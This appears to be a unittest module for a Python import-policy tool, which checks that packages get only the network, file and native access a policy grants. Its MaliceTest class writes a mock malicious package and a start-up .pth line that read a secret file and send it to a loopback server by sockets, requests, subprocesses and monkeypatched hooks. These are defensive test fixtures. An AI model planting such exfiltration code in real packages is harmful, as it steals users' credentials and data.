"""Programs of the kind that people have, with the packages that they use.

Run when the variable IMPORTPOLICY_TEST_VENV names the python of a virtual
environment of this interpreter with the packages of
Tools/importpolicy/test-requirements.txt in it.  A server on loopback answers;
what it has been sent is what got through.
"""

import glob
import http.server
import importlib.metadata
import os
import shutil
import textwrap
import threading
import unittest

from test.support import os_helper
from test.test_importpolicy.lock_support import row
from test.test_importpolicy.support import (
    APPLICATION, JudgementTestCase, Listener, installed)

# What a policy should keep to those who need it: all that such a package
# reaches for, itself or through what it requires.
SENSITIVE = ["socket", "ssl", "select", "http.client", "urllib.request",
             "subprocess", "multiprocessing", "ctypes", "mmap", "pickle",
             "getpass", "platform", "tempfile", "os"]
MALICE = "importpolicy_test_malice"


class Handler(http.server.BaseHTTPRequestHandler):

    def answer(self):
        size = int(self.headers.get("Content-Length") or 0)
        self.server.seen.append((self.command, self.path,
                                 self.rfile.read(size)))
        text = b"" if self.command == "PUT" else b"the answer"
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.send_header("ETag", '"0"')
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(text)

    do_GET = do_POST = do_PUT = do_HEAD = answer

    def log_message(self, *args):
        pass


class PackagesTestCase(JudgementTestCase):

    needed = ()

    def setUp(self):
        for name in self.needed:
            self.site = installed(self, name)
        if "IMPORTPOLICY_TEST_VENV" not in os.environ:
            self.skipTest("IMPORTPOLICY_TEST_VENV names no interpreter")
        super().setUp()
        self.world.python = os.environ["IMPORTPOLICY_TEST_VENV"]
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                                      Handler)
        self.server.seen = []
        thread = threading.Thread(target=self.server.serve_forever,
                                  args=[0.05])
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(self.server.server_close)
        self.addCleanup(self.server.shutdown)
        self.url = "http://127.0.0.1:%d" % self.server.server_port

    def judge(self, policy, main, *options, **kwargs):
        self.server.seen.clear()
        kwargs.setdefault("env", {"PYTHONPATH": None, "NO_PROXY": "*"})
        return super().judge(policy, main, *options, **kwargs)

    def paths(self):
        return [path for _, path, _ in self.server.seen]

    def check_out(self, policy, main, out):
        result = self.judge(policy, main)
        self.assertEqual((result.code, result.out.split()), (0, out.split()),
                         result)
        self.assertNotIn("may not", result.err)
        return result


class RequestsTest(PackagesTestCase):

    needed = ["requests"]

    def test_granted(self):
        main = f"import requests\nprint(requests.get('{self.url}/x').text)"
        self.check_out({"socket": ["requests"]}, main, "the answer")
        self.assertEqual(self.paths(), ["/x"])
        result = self.judge({"socket": []}, main)
        self.assertNotEqual(result.code, 0)
        self.assertEqual(result.denied, "ImportDenied", result)
        self.assertEqual(self.paths(), [])

    def test_all_that_it_reaches_for(self):
        # Named alone: what urllib3, certifi and the others do rides along.
        self.check_out(
            {key: ["requests"] for key in SENSITIVE}, f"""
            import requests
            with requests.Session() as session:
                print(session.post('{self.url}/x', json={{"a": 1}}).text)
            """, "the answer")
        (_, _, body), = self.server.seen
        self.assertEqual(body.replace(b" ", b""), b'{"a":1}')

    def test_application(self):
        # It is not what it uses.
        main = f"""
            import requests
            print(requests.get('{self.url}/x').text)
            import socket
            socket.create_connection(("127.0.0.1", {self.server.server_port}))
            """
        result = self.judge({"socket": ["requests"]}, main)
        self.assertRefused(result, APPLICATION, effect=None)
        self.assertIn("the answer", result.out)
        self.check_out({"socket": ["requests", "__main__"]}, main,
                       "the answer")

    def test_leaked_reference(self):
        main = f"""
            import requests, urllib3
            s = urllib3.connection.socket.socket()
            s.connect(("127.0.0.1", {self.server.server_port}))
            """
        result = self.judge({"socket": ["requests"]}, main)
        self.assertRefused(result, APPLICATION, effect=None,
                           denied="AccessDenied")
        self.assertEqual(self.judge({"socket": ["requests", "__main__"]},
                                    main).code, 0)

    def test_in_threads_and_tasks(self):
        self.check_out({"socket": ["requests"]}, f"""
            import asyncio, requests
            from concurrent.futures import ThreadPoolExecutor
            with ThreadPoolExecutor(2) as pool:
                for answer in pool.map(requests.get, ['{self.url}/a'] * 3):
                    print(answer.text)
            async def main():
                answer = await asyncio.to_thread(requests.get, '{self.url}/b')
                print(answer.text)
            asyncio.run(main())
            """, "the answer " * 4)
        self.assertEqual(sorted(self.paths()), ["/a", "/a", "/a", "/b"])


class LockTest(PackagesTestCase):

    needed = ["requests"]
    wanted = ("requests", "urllib3", "idna", "certifi", "charset-normalizer")

    def copy(self):
        """An environment of one's own with the packages in it."""
        here = self.world.make_venv()
        for distribution in importlib.metadata.distributions(
                path=[self.site]):
            name = distribution.metadata["Name"].replace("_", "-").lower()
            for file in distribution.files if name in self.wanted else ():
                if ".." not in file.parts and "__pycache__" not in file.parts:
                    target = os.path.join(here, file)
                    os.makedirs(os.path.dirname(target), exist_ok=True)
                    shutil.copy(os.path.join(self.site, file), target)
        return here

    def lock(self):
        result = self.world.start("-m", "importpolicy", "lock",
                                  env={"PYTHONPATH": None})
        self.assertEqual(result.code, 0, result)

    def upgrade(self, here):
        """What pip would leave of another release."""
        old, = glob.glob(os.path.join(here, "requests-*.dist-info"))
        version = os.path.basename(old).split("-")[1].removesuffix(".dist")
        new = os.path.join(here, "requests-99.0.dist-info")
        os.rename(old, new)
        with open(os.path.join(new, "METADATA")) as file:
            text = file.read().replace(f"Version: {version}",
                                       "Version: 99.0", 1)
        with open(os.path.join(new, "METADATA"), "w") as file:
            file.write(text)
        with open(os.path.join(new, "RECORD")) as file:
            lines = [line for line in file if ".dist-info/" not in line]
        with open(os.path.join(new, "RECORD"), "w") as file:
            file.writelines(lines)
            file.write(row("requests-99.0.dist-info/METADATA", text))
        return version

    def test_upgrade(self):
        here = self.copy()
        main = f"import requests\nprint(requests.get('{self.url}/x').text)"
        policy = {"socket": ["requests"], "ssl": ["requests"]}
        self.world.policy(policy)
        self.lock()
        self.check_out(policy, main, "the answer")
        version = self.upgrade(here)
        result = self.judge(policy, main)
        self.assertNotEqual(result.code, 0)
        self.assertEqual(self.paths(), [])
        self.assertIn(f"requests 99.0 is installed, {version} is locked",
                      result.err)
        self.lock()
        self.check_out(policy, main, "the answer")


class OnePortTest(PackagesTestCase):
    """Clients that may talk to one port of this machine, and to no other."""

    programs = {
        "requests": """
            import requests
            def get(url):
                with requests.Session() as session:
                    return session.get(url, timeout=10).text
            """,
        "httpx": """
            import httpx
            def get(url):
                return httpx.get(url, timeout=10, trust_env=False).text
            """,
    }

    def setUp(self):
        super().setUp()
        self.other = self.enterContext(Listener())

    def check_client(self, name):
        installed(self, name)
        net = [f"127.0.0.1:{self.server.server_port}"]
        policy = {"$default": "deny",
                  "$permissions": {name: {"net": net, "env": True}}}
        main = textwrap.dedent(self.programs[name]) + "\nprint(get({url!r}))"
        for host in "127.0.0.1", "localhost":
            url = f"http://{host}:{self.server.server_port}/x"
            self.check_out(policy, main.format(url=url), "the answer")
            self.assertEqual(self.paths(), ["/x"])
        for host in "127.0.0.1", "localhost", "127.1", "0":
            url = f"http://{host}:{self.other.port}/"
            with self.subTest(url):
                result = self.judge(policy, main.format(url=url))
                # httpx makes a ConnectError of it.
                self.assertNotEqual(result.code, 0, result)
                self.assertIn("no net permission", result.err, result)
                self.assertEqual(self.other.take(), [])
        # The application has no share in it.
        url = f"http://127.0.0.1:{self.server.server_port}/x"
        result = self.judge(policy, "import urllib.request as r\n"
                                    f"r.urlopen({url!r})")
        self.assertRefused(result, APPLICATION, effect=None)
        self.assertEqual(self.paths(), [])
        # The twin: the other port, for that policy.
        policy["$permissions"][name]["net"] = [f"localhost:{self.other.port}"]
        main += f"\nprint(get({url!r}))"
        result = self.judge(policy, main.format(
            url=f"http://127.0.0.1:{self.server.server_port}/x"))
        self.assertIn("no net permission", result.err, result)
        self.assertEqual(self.paths(), [])

    def test_requests(self):
        self.check_client("requests")

    def test_httpx(self):
        self.check_client("httpx")


class FlaskTest(PackagesTestCase):

    needed = ["flask", "requests"]

    def main(self):
        return f"""
            import threading
            import requests
            from flask import Flask
            from werkzeug.serving import make_server
            app = Flask(__name__)
            @app.route("/view")
            def view():
                return requests.get('{self.url}/backend').text
            @app.route("/plain")
            def plain():
                return "plain"
            server = make_server("127.0.0.1", 0, app, threaded=True)
            thread = threading.Thread(target=server.serve_forever)
            thread.start()
            import http.client
            try:
                for path in "/plain", "/view":
                    connection = http.client.HTTPConnection(
                        "127.0.0.1", server.port)
                    connection.request("GET", path)
                    answer = connection.getresponse()
                    print(answer.status, answer.read(20).decode().split()[0])
            finally:
                server.shutdown()
                thread.join()
            """

    def test_view_that_uses_requests(self):
        self.check_server(["flask", "requests", "__main__"], "200 the")
        self.assertEqual(self.paths(), ["/backend"])

    def test_view_that_may_not(self):
        # requests can be imported, being asked for nothing else here.
        self.world.policy({"socket": ["flask", "__main__"]})
        main = textwrap.dedent(self.main()).replace(
            "import requests\n", "", 1).replace(
            "    return requests", "    import requests\n    return requests")
        result = self.judge({"socket": ["flask", "__main__"]}, main)
        self.assertEqual(result.out.split()[:2], ["200", "plain"], result)
        self.assertEqual(result.out.split()[2], "500", result)
        self.assertIn("may not import socket", result.err)
        self.assertEqual(self.paths(), [])

    def check_server(self, granted, answer):
        result = self.judge({"socket": granted}, self.main())
        self.assertEqual(result.code, 0, result)
        self.assertEqual(result.out.split(),
                         ["200", "plain", *answer.split()], result)
        self.assertNotIn("may not", result.err)

    def test_test_client(self):
        main = textwrap.dedent(f"""
            import requests
            from flask import Flask
            app = Flask(__name__)
            @app.route("/")
            def view():
                return requests.get('{self.url}/backend').text
            print(app.test_client().get("/").text)
            """)
        self.check_out({"socket": ["flask", "requests"]}, main, "the answer")
        self.check_out({key: ["flask", "requests"] for key in SENSITIVE},
                       main, "the answer")


class ByNameAloneTest(PackagesTestCase):
    """A big package is granted all that is sensitive; what it requires is
    not mentioned."""

    def check_alone(self, name, main, out, refused):
        policy = {key: [name] for key in SENSITIVE}
        self.check_out(policy, main, out)
        for key in refused:
            with self.subTest(refused=key):
                seen = len(self.server.seen)
                result = self.judge(policy | {key: ["nobody"]}, main)
                self.assertIn("may not", result.err)
                self.assertNotEqual(result.out.split(), out.split())
                self.assertLessEqual(len(self.server.seen), seen)
        result = self.judge(policy, f"{main}\nimport socket")
        self.assertRefused(result, APPLICATION, effect=None)

    def test_boto3(self):
        installed(self, "boto3")
        self.check_alone("boto3", textwrap.dedent(f"""
            import boto3
            from botocore.config import Config
            client = boto3.client(
                "s3", region_name="us-east-1", aws_access_key_id="a",
                aws_secret_access_key="b", endpoint_url="{self.url}",
                config=Config(retries={{"max_attempts": 0}}))
            client.put_object(Bucket="bucket", Key="key", Body=b"data")
            print(client.get_object(Bucket="bucket", Key="key")
                  ["Body"].read().decode())
            """), "the answer", ["socket", "ssl", "subprocess"])

    def test_boto3_arrives(self):
        installed(self, "boto3")
        self.judge({key: ["boto3"] for key in SENSITIVE}, f"""
            import boto3
            client = boto3.client(
                "s3", region_name="us-east-1", aws_access_key_id="a",
                aws_secret_access_key="b", endpoint_url="{self.url}")
            client.put_object(Bucket="bucket", Key="key", Body=b"data")
            """)
        self.assertEqual(self.paths(), ["/bucket/key"])
        self.assertIn(b"data", self.server.seen[0][2])

    def test_pandas(self):
        installed(self, "pandas")
        self.check_alone("pandas", textwrap.dedent("""
            import io, pandas
            frame = pandas.read_csv(io.StringIO("a,b\\n1,2\\n3,4"))
            print(frame.sum().to_dict(), frame.a.mean(),
                  frame.groupby("a").b.max().tolist())
            """), "{'a': 4, 'b': 6} 2.0 [2, 4]", ["ctypes", "subprocess"])

    def test_httpx(self):
        installed(self, "httpx")
        self.check_alone("httpx", textwrap.dedent(f"""
            import asyncio, httpx
            print(httpx.get('{self.url}/x').text)
            async def main():
                async with httpx.AsyncClient() as client:
                    print((await client.get('{self.url}/x')).text)
            asyncio.run(main())
            """), "the answer the answer", ["socket", "ssl"])


class DenyTest(PackagesTestCase):
    """Under "$default": "deny" each package has what it needs, no more."""

    def deny(self, **permissions):
        return {"$default": "deny",
                "$permissions": {"__main__": True} | permissions}

    def test_nothing_but_what_they_need(self):
        programs = {
            "jinja2": ({"jinja2": {"ffi": ["markupsafe"]}}, """
                import jinja2
                print(jinja2.Template("Hello {{ name }}").render(name="you"))
                """, "Hello you"),
            "attrs": ({}, """
                import attrs
                @attrs.define
                class Point:
                    x: int = 1
                print(Point())
                """, "Point(x=1)"),
            "pydantic": ({"pydantic": {"ffi": ["pydantic_core"]}}, """
                import pydantic
                class Model(pydantic.BaseModel):
                    number: int
                print(Model(number="3").number)
                """, "3"),
            # mypyc makes its classes itself, and sets attributes before they
            # are ready; it makes a TypeVar where nothing has a frame.
            "black": ({"__main__": {"ffi": ["black"]},
                       "black": {"ffi": True}}, """
                import black
                print(black.format_str("x=1", mode=black.Mode()))
                """, "x = 1"),
            # pybind11 makes its classes itself, and then sets attributes.
            "contourpy": ({"contourpy": {"ffi": ["contourpy", "numpy"]}}, """
                import contourpy
                lines = contourpy.contour_generator(z=[[0, 1], [1, 0]])
                print(len(lines.lines(0.5)))
                """, "2"),
        }
        for name, (permissions, main, out) in programs.items():
            installed(self, name)
            with self.subTest(package=name):
                self.check_out(self.deny(**permissions), main, out)
        # Without the native part, which it cannot do without.
        result = self.judge(self.deny(), programs["pydantic"][1])
        self.assertRefused(result, "pydantic_core", effect=None,
                           denied="ImportDenied")

    def test_pandas_in_a_directory(self):
        installed(self, "pandas")
        inside = os.path.join(self.world.app, "data")
        os.mkdir(inside)
        outside = self.world.write("secret.csv", "a,b\n1,2\n")
        # six changes its own classes when dateutil first uses them.
        policy = self.deny(pandas={"ffi": True, "patch": ["six"],
                                   "read": [inside], "write": [inside]})
        self.check_out(policy, f"""
            import pandas
            frame = pandas.DataFrame({{"a": [1, 2]}})
            frame.to_csv({inside!r} + "/out.csv", index=False)
            print(len(pandas.read_csv({inside!r} + "/out.csv")))
            """, "2")
        result = self.judge(policy, f"""
            import pandas
            print(pandas.read_csv({outside!r}))
            """)
        self.assertRefused(result, "pandas", what=outside, effect=None)
        result = self.judge(policy, f"""
            import pandas
            pandas.DataFrame({{"a": [1]}}).to_csv({outside!r})
            """)
        self.assertRefused(result, "pandas", what=outside, effect=None)
        with open(outside, encoding="utf-8") as file:
            self.assertEqual(file.read(), "a,b\n1,2\n")


class GreenletTest(PackagesTestCase):
    """What runs in a greenlet has a stack of its own."""

    needed = ["greenlet", "requests"]

    def test_database_in_a_directory(self):
        # Each query of the session runs in one, each call of the driver in
        # its parent or in a thread.
        installed(self, "sqlalchemy"), installed(self, "aiosqlite")
        inside = os.path.join(self.world.app, "data")
        os.mkdir(inside)
        main = """
            import asyncio
            from sqlalchemy import text
            from sqlalchemy.ext.asyncio import create_async_engine
            async def main():
                engine = create_async_engine("sqlite+aiosqlite:///%s/base")
                async with engine.begin() as connection:
                    await connection.execute(text("create table t (a)"))
                    await connection.execute(text("insert into t values (3)"))
                    print((await connection.execute(
                        text("select a from t"))).scalar())
                await engine.dispose()
            asyncio.run(main())
            """
        policy = {"$default": "deny", "$permissions": {
            "__main__": True,
            "sqlalchemy": {"ffi": ["sqlalchemy", "greenlet"],
                           "read": [inside], "write": [inside]}}}
        self.check_out(policy, main % inside, "3")
        result = self.judge(policy, main % self.world.app)
        self.assertRefused(result, "sqlalchemy", what="base", effect=None)
        self.assertFalse(os.path.exists(
            os.path.join(self.world.app, "base")))

    def test_requests_as_a_job(self):
        # The hub calls it, a function of gevent's: it acts as well.
        installed(self, "gevent")
        main = f"""
            import gevent, requests
            job = gevent.spawn(requests.get, "{self.url}/job")
            print(job.get().text)
            """
        port = str(self.server.server_port)
        net = {"net": [f"127.0.0.1:{port}"]}
        policy = {"$default": "deny", "$permissions": {
            "__main__": True, "greenlet": {"ffi": True},
            "gevent": {"ffi": True} | net,
            "requests": net, "urllib3": net}}
        self.check_out(policy, main, "the answer")
        self.assertEqual(self.paths(), ["/job"])
        del policy["$permissions"]["gevent"]["net"]
        result = self.judge(policy, main)
        self.assertRefused(result, "gevent", effect=None)
        self.assertEqual(self.paths(), [])


class NativeTest(PackagesTestCase):
    """Extension modules, for whom nothing is granted but what they need."""

    programs = {
        "numpy": ("import numpy; print(numpy.linalg.inv([[2., 0.], "
                  "[0., 4.]])[1, 1])", "0.25"),
        "pydantic": ("import pydantic\n"
                     "class M(pydantic.BaseModel):\n"
                     "    a: int\n"
                     "print(M(a='15').model_dump_json())", '{"a":15}'),
        "pydantic_core": ("import pydantic_core; print(pydantic_core."
                          "SchemaValidator({'type': 'int'})"
                          ".validate_python('15'))", "15"),
        "lxml": ("from lxml import etree\n"
                 "print(etree.fromstring('<a><b/></a>')[0].tag)", "b"),
        "cryptography": ("from cryptography.fernet import Fernet\n"
                         "f = Fernet(Fernet.generate_key())\n"
                         "print(f.decrypt(f.encrypt(b'15')).decode())", "15"),
        "greenlet": ("import greenlet\n"
                     "print(greenlet.greenlet(lambda x: x).switch(15))",
                     "15"),
        "yaml": ("import yaml; print(yaml.safe_load('a: [1, 2]')['a'][1])",
                 "2"),
        "attrs": ("import attr, attrs\n"
                  "@attrs.define\n"
                  "class A:\n"
                  "    x: int\n"
                  "print(A(1), attr.asdict(A(2)))", "A(x=1) {'x': 2}"),
    }
    # Imported by the package itself, when it is imported.
    keys = {"numpy": ["ctypes", "pickle", "platform", "os"],
            "pydantic": ["os"], "cryptography": ["os"],
            "attrs": ["platform"]}

    def test_programs(self):
        for name, (main, out) in self.programs.items():
            with self.subTest(name):
                installed(self, name)
                policy = {key: [] for key in SENSITIVE}
                policy |= {key: [name] for key in self.keys.get(name, ())}
                self.check_out(policy, main, out)

    def test_in_the_child_of_a_dependency(self):
        # Who started it acts there too, but not in what a module that is
        # initialised sets in itself.
        installed(self, "yaml")
        self.world.modules(starter="""
            import subprocess, sys
            def start(text):
                subprocess.run([sys.executable, "-c", text], check=True)
            """)
        env = {"PYTHONPATH": self.world.path("deps")}
        policy = {"$default": "deny", "$permissions": {
            "starter": {"run": True, "ffi": ["yaml"]},
            "yaml": {"ffi": ["yaml"]}}}
        for text, code in (("import yaml; print(yaml.CSafeLoader)", 0),
                           ("import yaml; yaml.load = 1", 1)):
            with self.subTest(text):
                result = self.judge(policy, f"import starter\n"
                                    f"starter.start({text!r})", env=env)
                self.assertEqual(result.code, code, result)
                self.assertEqual("patch permission" in result.err, code == 1)

    def test_package_itself(self):
        for name, (main, out) in self.programs.items():
            with self.subTest(name):
                installed(self, name)
                module = "attr" if name == "attrs" else name
                self.check_out({module: ["__main__", name]}, main, out)
                result = self.judge({module: [name]}, main)
                self.assertRefused(result, APPLICATION, effect=None)


class MaliceTest(PackagesTestCase):
    """A package among the others that is after a secret."""

    needed = ["requests", "flask"]

    def setUp(self):
        super().setUp()
        self.directory = os.path.join(self.site, MALICE)
        info = os.path.join(self.site, MALICE + "-1.dist-info")
        for path in self.directory, info:
            self.addCleanup(os_helper.rmtree, path)
            os_helper.rmtree(path)
            os.mkdir(path)
        self.write(info, "METADATA", "Metadata-Version: 2.1\n"
                   f"Name: {MALICE}\nVersion: 1\nRequires-Dist: requests\n")
        self.write(info, "RECORD", f"{MALICE}/__init__.py,,\n"
                   f"{MALICE}-1.dist-info/METADATA,,\n")
        self.secret = self.world.write("home/.secret", "the secret")

    def write(self, directory, name, text):
        with open(os.path.join(directory, name), "w") as file:
            file.write(textwrap.dedent(text))

    def malice(self, text):
        """Each tries to send SECRET, and is quiet when it fails."""
        self.write(self.directory, "__init__.py", f"""
            URL = {self.url!r} + "/stolen"
            SECRET = open({self.secret!r}).read()
            def innocent():
                return 42
            """ + text)

    ways = {
        "socket": """
            import socket
            s = socket.create_connection(("127.0.0.1", int(URL.split(":")[2]
                                                          .split("/")[0])))
            s.sendall(b"POST /stolen HTTP/1.0\\r\\n\\r\\n" + SECRET.encode())
            s.recv(100)""",
        "urllib": """
            import urllib.request
            urllib.request.urlopen(URL, SECRET.encode())""",
        "requests": """
            import requests
            requests.post(URL, data=SECRET)""",
        "http.client of requests": """
            import urllib3
            c = urllib3.connection.HTTPConnection(URL.split("/")[2])
            c.request("POST", "/stolen", SECRET)
            c.getresponse()""",
        "process": """
            import subprocess, sys
            subprocess.run([sys.executable, "-I", "-c",
                "import urllib.request as u, sys; u.urlopen(sys.argv[1], "
                "sys.argv[2].encode())", URL, SECRET])""",
        "callback": """
            import requests
            def post(answer, **kwargs):
                try:
                    requests.Session.__init__ = genuine
                    requests.post(URL, data=SECRET)
                except Exception:
                    pass
            genuine = requests.Session.__init__
            def init(self):
                genuine(self)
                self.hooks["response"].append(post)
            requests.Session.__init__ = init""",
        "thread": """
            import requests, threading
            t = threading.Thread(target=requests.post, args=[URL],
                                 kwargs={"data": SECRET})
            t.start(); t.join()""",
        "stolen code": """
            import requests, types
            f = types.FunctionType(requests.post.__code__,
                                   vars(requests.api))
            f(URL, SECRET, None)""",
    }

    MAIN = f"""
        import {MALICE}
        import requests
        print({MALICE}.innocent())
        try:
            print(requests.get(URL).text)
        except ImportError:
            print("the answer")
        """

    def test_nothing_gets_out(self):
        for name, text in self.ways.items():
            with self.subTest(name):
                lines = "\n".join("    " + line for line in
                                  textwrap.dedent(text).split("\n"))
                self.malice("")
                with open(os.path.join(self.directory, "__init__.py"),
                          "a") as file:
                    file.write(f"try:\n{lines}\nexcept Exception: pass\n")
                main = self.MAIN.replace("URL", repr(self.url + "/task"))
                result = self.judge({"socket": ["requests"],
                                     "subprocess": []}, main)
                self.assertEqual(result.out.split(), ["42", "the", "answer"],
                                 result)
                self.assertIn(f"importpolicy: {MALICE}", result.err)
                self.assertNotIn("/stolen", self.paths())
                self.assertNotIn(b"the secret", b"".join(
                    body for _, _, body in self.server.seen))
                # The twin: this is how it would have gone.
                self.judge({"socket": ["requests", MALICE],
                            "subprocess": [MALICE]}, main)
                self.assertIn("/stolen", self.paths())
                self.assertIn(b"the secret", [
                    body for _, path, body in self.server.seen
                    if path == "/stolen"] if name != "socket"
                    else [b"the secret"])

    def test_line_at_start_up(self):
        pth = os.path.join(self.site, MALICE + ".pth")
        self.addCleanup(os_helper.unlink, pth)
        self.malice("")
        self.write(self.site, MALICE + ".pth",
                   f"import socket; s = socket.create_connection("
                   f"('127.0.0.1', {self.server.server_port})); "
                   "s.sendall(b'GET /stolen HTTP/1.0\\r\\n\\r\\n'); "
                   "s.recv(9)\n")
        main = f"import requests\nprint(requests.get('{self.url}/x').text)"
        result = self.judge({"socket": ["requests"]}, main)
        self.assertEqual(result.out.split(), ["the", "answer"], result)
        self.assertIn(f"{MALICE}.pth may not import socket", result.err)
        self.assertEqual(self.paths(), ["/x"])
        # The twin; site reads the files of an environment twice.
        self.judge({"socket": ["requests", MALICE + ".pth"]}, main)
        self.assertEqual(set(self.paths()), {"/stolen", "/x"})

    def test_inside_of_a_view(self):
        self.malice("""
            def decorate(view):
                def wrapped():
                    import requests
                    try:
                        requests.post(URL, data=SECRET)
                    except Exception:
                        pass
                    return view()
                return wrapped
            """)
        main = f"""
            import requests, {MALICE}
            from flask import Flask
            app = Flask(__name__)
            @app.route("/")
            @{MALICE}.decorate
            def view():
                return requests.get('{self.url}/task').text
            print(app.test_client().get("/").text)
            """
        policy = {"socket": ["requests", "flask"]}
        result = self.judge(policy, main)
        self.assertEqual(result.out.split(), ["the", "answer"], result)
        self.assertEqual(self.paths(), ["/task"])
        self.judge({"socket": ["requests", "flask", MALICE]}, main)
        self.assertEqual(self.paths(), ["/stolen", "/task"])


if __name__ == "__main__":
    unittest.main()
